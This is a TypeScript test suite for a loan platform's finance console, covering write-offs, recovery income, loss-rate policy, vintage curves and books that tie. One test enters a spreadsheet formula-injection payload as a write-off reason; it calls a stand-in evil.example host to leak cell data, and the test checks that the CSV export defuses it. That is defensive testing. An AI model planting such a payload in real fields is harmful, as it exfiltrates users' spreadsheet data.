// Write-offs and recoveries as finance works them (decision 078): a loan written off by decision is
// netted to nil in the general ledger, collections still collect on it and the money is recovery
// income; the policy's days past due write loans off at the close of business; loss rates are
// versioned and drive the provision; the trial balance balances and the sub-ledger ties throughout.
// Also the accrual step's running position (decision 079) equals the sums of the lines it replaces; a
// penalty waived after a write-off is no recovery, and a vintage point stays where the close of business
// saw it when the loan is rolled over later (decision 085).
import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { writeOffPosition } from '../../domain/books/write-off.js';
import { build } from '../../test/helper.js';
import { consoleGet, consolePost, loginAs } from '../../test/console-helper.js';
import { fixtures } from '../payments/test-fixtures.js';

const app = await build();
const { adminCall, disbursedOrder } = fixtures(app);
const finance = await loginAs(app, 'finance');
const agent = await loginAs(app, 'agent');

type Rows<T> = { rows: T[] };
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- tests read the envelope's data
const data = (res: { json: () => unknown }) => (res.json() as { data: any }).data;
const gl = (tb: { rows: { code: string; debitCents: number; creditCents: number }[] }, code: string) =>
  tb.rows.find((r) => r.code === code) ?? { debitCents: 0, creditCents: 0 };

async function booksTie(date: string) {
  const tb = data(await consoleGet(app, finance, `/api/console/books/trial-balance?date=${date}`));
  expect(tb.debitCents).toBe(tb.creditCents);
  const sub = data(await consoleGet(app, finance, `/api/console/books/sub-ledger?date=${date}`));
  expect(sub.differenceCents).toBe(0);
  // Column by column too: overdue interest sits in interest receivable (1210), as the chart maps it (decision 112).
  for (const column of sub.columns as { code: string; differenceCents: number }[])
    expect(column.differenceCents, `${column.code} on ${date}`).toBe(0);
  expect((sub.columns as { code: string }[]).map((c) => c.code)).toEqual(['1200', '1210', '1220', '1230']);
  return tb;
}

async function enginePosition(orderNo: string) {
  const order = (await app.ordersRepository.findByNo(orderNo))!;
  const product = (await app.productsRepository.findVersion(order.productVersionId))!;
  return writeOffPosition((await app.ordersRepository.loadState(app.db, order, product)).entries);
}

describe('write-offs and recoveries', () => {
  it('writes a loan off by decision, collects on it as recovery, and keeps the books balanced', async () => {
    const a = await disbursedOrder('09350000001', '2026-01-05');
    await adminCall('POST', '/clock', { date: '2026-05-10' });
    await app.loans.runCob('2026-05-10');
    await booksTie('2026-05-10');

    // Only finance (or an admin) writes off; a reason is required; an unknown order is not found.
    expect(
      (
        await consolePost(app, agent, '/api/console/books/write-offs', {
          orderNo: a.orderNo,
          reason: 'borrower cannot be found',
        })
      ).statusCode,
    ).toBe(403);
    const short = await consolePost(app, finance, '/api/console/books/write-offs', {
      orderNo: a.orderNo,
      reason: 'no',
    });
    expect(short.statusCode).toBe(400);
    expect(JSON.stringify(short.json())).toContain('reason');
    const unknown = await consolePost(app, finance, '/api/console/books/write-offs', {
      orderNo: 'LW20260105999999',
      reason: 'borrower cannot be found',
    });
    expect(unknown.statusCode).toBe(404);

    // A reason typed as a spreadsheet formula (decision 102): the CSV below must not let it run.
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Borrower cannot be found")';
    const res = await consolePost(app, finance, '/api/console/books/write-offs', {
      orderNo: a.orderNo,
      reason: formula,
    });
    expect(res.statusCode).toBe(200);
    const wo = data(res);
    expect(wo).toMatchObject({ orderNo: a.orderNo, rule: 'decision', principalCents: 500_000 });
    const again = await consolePost(app, finance, '/api/console/books/write-offs', {
      orderNo: a.orderNo,
      reason: 'borrower cannot be found',
    });
    expect(again.statusCode).toBe(400);
    expect(JSON.stringify(again.json())).toContain('written off on 2026-05-10');

    // The general ledger carries the loan at nil (contra 1295), the loss is expensed (5100), no unearned income is left.
    const tb = await booksTie('2026-05-10');
    const receivables = ['1200', '1210', '1220', '1230'].reduce(
      (n, c) => n + gl(tb, c).debitCents - gl(tb, c).creditCents,
      0,
    );
    expect(gl(tb, '1295').creditCents).toBe(receivables);
    expect(gl(tb, '5100').debitCents).toBeGreaterThan(0);
    expect(gl(tb, '2100').creditCents + gl(tb, '2110').creditCents).toBe(0);
    expect(await enginePosition(a.orderNo)).toMatchObject({ recoveredCents: 0 });

    // Collections still collect: the payment lowers what the borrower owes and is recovery income (4500).
    await app.loans.pay(a.orderNo, { amountCents: 100_000, purpose: 'repay', reference: `${a.orderNo}-r1` }, 't');
    const after = await booksTie('2026-05-10');
    expect(gl(after, '4500').creditCents).toBe(100_000);
    expect(await enginePosition(a.orderNo)).toMatchObject({ recoveredCents: 100_000 });
    // Late charges keep running at the close of business, owed but neither income nor loss (non-accrual, decision
    // 114): still balanced, still nil.
    await adminCall('POST', '/clock', { date: '2026-05-20' });
    await app.loans.runCob('2026-05-20');
    const later = await booksTie('2026-05-20');
    // Each day's overdue interest since the write-off is held against the contra: the close of business posts it as
    // the engine does (lateChargeCredit), never to income.
    const since = (await app.db.execute(sql`
      select l.account from journal_entries e join journal_lines l on l.entry_id = e.id
      where e.order_id = (select id from orders where order_no = ${a.orderNo}) and e.business_date > '2026-05-10'::date
        and e.kind in ('penalty', 'overdue_interest') group by l.account order by l.account`)) as unknown as Rows<{
      account: string;
    }>;
    expect(since.rows.map((r) => r.account)).toEqual(['receivable:overdue_interest', 'written_off:overdue_interest']);
    const stillOwed = ['1200', '1210', '1220', '1230'].reduce(
      (n, c) => n + gl(later, c).debitCents - gl(later, c).creditCents,
      0,
    );
    expect(gl(later, '1295').creditCents).toBe(stillOwed);
    await enginePosition(a.orderNo); // asserts the contra nets every receivable to nil

    const list = data(await consoleGet(app, finance, '/api/console/books/write-offs'));
    expect(list.rows[0]).toMatchObject({ orderNo: a.orderNo, rule: 'decision', recoveredCents: 100_000 });
    expect(list.rows[0].owedCents).toBe(stillOwed);
    const csv = await consoleGet(app, finance, '/api/console/books/write-offs.csv');
    expect(csv.body.split('\r\n')[0]).toBe(
      'OrderNo,WrittenOffOn,Rule,By,Reason,Principal,Charges,Loss,Recovered,StillOwed',
    );
    const row = csv.body.split('\r\n')[1]!;
    expect(row).toContain(`,"'${formula.replaceAll('"', '""')}",`);
    expect(row).not.toContain(',=HYPERLINK');
    // The portfolio leaves it off the book and shows what was lost and recovered.
    const pf = data(await consoleGet(app, finance, '/api/console/books/portfolio?date=2026-05-20'));
    expect(pf.writtenOff).toMatchObject({ loans: 1, recoveredCents: 100_000 });
    // The late charges since the write-off day are not expensed: the loss is what it was that day.
    const pfThen = data(await consoleGet(app, finance, '/api/console/books/portfolio?date=2026-05-10'));
    expect(pfThen.writtenOff).toMatchObject({ loans: 1, recoveredCents: 100_000 });
    expect(pfThen.writtenOff.lossCents).toBe(pf.writtenOff.lossCents);
    expect(gl(later, '4110').creditCents).toBe(gl(after, '4110').creditCents);
    const audit = (await app.db.execute(
      sql`select actor, after from audit_log where action = 'books.write_off' and target = ${a.orderNo}`,
    )) as unknown as Rows<{ actor: string }>;
    expect(audit.rows).toHaveLength(1);
    // The accrual step earns nothing more on it.
    const accruals = (await app.db.execute(
      sql`select count(*)::int as n from journal_entries where order_id = ${a.orderId} and kind = 'accrual' and business_date > '2026-05-10'`,
    )) as unknown as Rows<{ n: number }>;
    expect(accruals.rows[0]!.n).toBe(0);
  }, 240_000);

  it('keeps loss rates versioned and audited, and writes off at the policy days past due', async () => {
    const policy = data(await consoleGet(app, finance, '/api/console/books/policy'));
    expect(policy.current).toMatchObject({ writeOffDays: 180, lossRates: { current: 100, '181+': 10_000 } });
    const falling = await consolePost(app, finance, '/api/console/books/policy', {
      writeOffDays: 60,
      lossRates: { ...policy.current.lossRates, '31-60': 100 },
      reason: 'annual review',
    });
    expect(falling.statusCode).toBe(400);
    expect(JSON.stringify(falling.json())).toContain('lossRates.31-60');
    const saved = await consolePost(app, finance, '/api/console/books/policy', {
      writeOffDays: 60,
      lossRates: { ...policy.current.lossRates, '1-30': 1_000, '31-60': 3_000 },
      reason: 'annual review',
    });
    expect(saved.statusCode).toBe(200);
    const next = data(await consoleGet(app, finance, '/api/console/books/policy'));
    expect(next.versions.map((v: { version: number }) => v.version)).toEqual([2, 1]);
    const pf = data(await consoleGet(app, finance, '/api/console/books/portfolio?date=2026-05-20'));
    expect(pf.ageing.find((r: { key: string }) => r.key === '31-60').lossRateBps).toBe(3_000);
    expect(pf.policyVersion).toBe(2);

    const b = await disbursedOrder('09350000002', '2026-05-20');
    // Due 2026-08-19: 67 days past due on 2026-10-25, past the new policy's 60.
    await adminCall('POST', '/clock', { date: '2026-10-25' });
    await app.loans.runCob('2026-10-25');
    const list = data(await consoleGet(app, finance, '/api/console/books/write-offs'));
    expect(list.rows.find((r: { orderNo: string }) => r.orderNo === b.orderNo)).toMatchObject({
      rule: 'days_past_due',
      actor: 'cob',
    });
    await booksTie('2026-10-25');
    await enginePosition(b.orderNo);
  }, 240_000);

  it('reads vintage curves and collections efficiency, and keeps the accrual positions equal to the lines', async () => {
    const v = data(await consoleGet(app, finance, '/api/console/books/vintages?date=2026-10-01'));
    const jan = v.curves.find((c: { vintage: string }) => c.vintage === '2026-01');
    expect(jan.loans).toBe(1);
    // Due 2026-04-06, unpaid 30 days later: DPD30+ from month 4 on book (May).
    expect(jan.dpd30Bps.slice(0, 6)).toEqual([0, 0, 0, 0, 10_000, 10_000]);
    const eff = data(await consoleGet(app, finance, '/api/console/books/efficiency?date=2026-10-01'));
    expect(eff.months).toHaveLength(12);
    const april = eff.months.find((m: { month: string }) => m.month === '2026-04');
    expect(april).toMatchObject({ dueCents: 560_667, collectedCents: 0 });
    // The recovery went to the late charges first (the bucket order), the rest to the April installment.
    expect(april.collectedLateCents).toBeGreaterThan(0);
    expect(april.collectedLateCents).toBeLessThan(100_000);
    const csv = await consoleGet(app, finance, '/api/console/books/vintages.csv?date=2026-10-01');
    expect(csv.body.split('\r\n')[0]).toMatch(/^Vintage,Loans,Disbursed,Month0Dpd30PlusPercent/);

    const drift = (await app.db.execute(sql`
      select count(*)::int as n from accrual_positions p full join (
        select order_id,
          coalesce(-sum(amount_cents) filter (where account in ('income:interest', 'rebate:interest')), 0) as ci,
          coalesce(-sum(amount_cents) filter (where account in ('income:fee', 'rebate:fee')), 0) as cf,
          coalesce(sum(amount_cents) filter (where account = 'income_deferred:interest'), 0) as di,
          coalesce(sum(amount_cents) filter (where account = 'income_deferred:fee'), 0) as df,
          coalesce(-sum(amount_cents) filter (where account = 'income_earned:interest'), 0) as ei,
          coalesce(-sum(amount_cents) filter (where account = 'income_earned:fee'), 0) as ef
        from journal_lines group by order_id) l on l.order_id = p.order_id
      where coalesce(p.contract_interest_cents, 0) <> coalesce(l.ci, 0) or coalesce(p.contract_fee_cents, 0) <> coalesce(l.cf, 0)
         or coalesce(p.deferred_interest_cents, 0) <> coalesce(l.di, 0) or coalesce(p.deferred_fee_cents, 0) <> coalesce(l.df, 0)
         or coalesce(p.earned_interest_cents, 0) <> coalesce(l.ei, 0) or coalesce(p.earned_fee_cents, 0) <> coalesce(l.ef, 0)`)) as unknown as Rows<{
      n: number;
    }>;
    expect(drift.rows[0]!.n).toBe(0);
  }, 120_000);

  it('keeps a vintage point where the close of business saw it, though the loan is rolled over later', async () => {
    const v = await disbursedOrder('09177100001', '2026-11-02');
    await adminCall('POST', '/clock', { date: '2027-03-05' });
    await app.loans.runCob('2027-03-05');
    const curve = async (date: string) =>
      data(await consoleGet(app, finance, `/api/console/books/vintages?date=${date}`)).curves.find(
        (c: { vintage: string }) => c.vintage === '2026-11',
      ) as { loans: number; dpd30Bps: number[] };
    // Due 2027-02-01 and 32 days past due at this close: 30 days past due on 2027-03-03, month 4 on book.
    const before = await curve('2027-03-31');
    expect(before).toMatchObject({ loans: 1, dpd30Bps: [0, 0, 0, 0, 10_000] });

    const quote = (await app.loans.show(v.orderNo)).rollover!;
    expect(quote.allowed).toBe(true);
    await app.loans.pay(
      v.orderNo,
      { amountCents: quote.amountCents, purpose: 'rollover', reference: `${v.orderNo}-ro` },
      't',
    );
    // The schedule now says 2027-05-03: read from it, the loan would not be 30 days past due until June.
    expect((await app.ordersRepository.schedule(v.orderId))[0]!.dueOn).toBe('2027-05-03');
    expect((await curve('2027-03-31')).dpd30Bps).toEqual(before.dpd30Bps);
    // Later closes see it current; the point it reached stays.
    await adminCall('POST', '/clock', { date: '2027-03-20' });
    await app.loans.runCob('2027-03-20');
    expect((await curve('2027-03-31')).dpd30Bps).toEqual(before.dpd30Bps);
    expect((await curve('2027-06-30')).dpd30Bps.slice(0, 5)).toEqual(before.dpd30Bps);
  }, 240_000);

  it('takes a penalty waived after the write-off off the written-off balance, not into recoveries', async () => {
    const w = await disbursedOrder('09177100002', '2027-03-22');
    // Due 2027-06-21: 4 days past due on 2027-06-25, the PHP 40 penalty charged.
    await adminCall('POST', '/clock', { date: '2027-06-25' });
    await app.loans.runCob('2027-06-25');
    const written = await consolePost(app, finance, '/api/console/books/write-offs', {
      orderNo: w.orderNo,
      reason: 'borrower emigrated, no contact',
    });
    expect(written.statusCode).toBe(200);
    const portfolio = async () =>
      data(await consoleGet(app, finance, '/api/console/books/portfolio?date=2027-06-25')).writtenOff as {
        lossCents: number;
        recoveredCents: number;
      };
    const tbBefore = await booksTie('2027-06-25');
    const pfBefore = await portfolio();
    const before = await enginePosition(w.orderNo);
    expect(before.recoveredCents).toBe(0);

    const waived = await consolePost(app, finance, `/api/console/orders/${w.orderNo}/waive-penalty`, {
      amountCents: 1_500,
      reason: 'hardship after the write-off',
    });
    expect(waived.statusCode).toBe(200);
    // Nothing was received: no recovery income, the loss on the forgiven charge taken back, the contra still nets.
    const tb = await booksTie('2027-06-25');
    expect(gl(tb, '4500')).toEqual(gl(tbBefore, '4500'));
    expect(await enginePosition(w.orderNo)).toEqual({
      recoveredCents: 0,
      lossCents: before.lossCents - 1_500,
      owedCents: before.owedCents - 1_500,
    });
    expect(await portfolio()).toEqual({ ...pfBefore, lossCents: pfBefore.lossCents - 1_500 });
    const list = data(await consoleGet(app, finance, '/api/console/books/write-offs'));
    expect(list.rows.find((r: { orderNo: string }) => r.orderNo === w.orderNo)).toMatchObject({
      recoveredCents: 0,
      owedCents: before.owedCents - 1_500,
    });
    const recoveryLines = (await app.db.execute(
      sql`select count(*)::int as n from journal_lines where order_id = ${w.orderId} and account like 'recovery:%'`,
    )) as unknown as Rows<{ n: number }>;
    expect(recoveryLines.rows[0]!.n).toBe(0);

    // Money received afterwards is recovery income, to the centavo.
    await app.loans.pay(w.orderNo, { amountCents: 10_000, purpose: 'repay', reference: `${w.orderNo}-r1` }, 't');
    expect(await enginePosition(w.orderNo)).toMatchObject({ recoveredCents: 10_000 });
    expect((await portfolio()).recoveredCents).toBe(pfBefore.recoveredCents + 10_000);
    await booksTie('2027-06-25');
  }, 240_000);
});
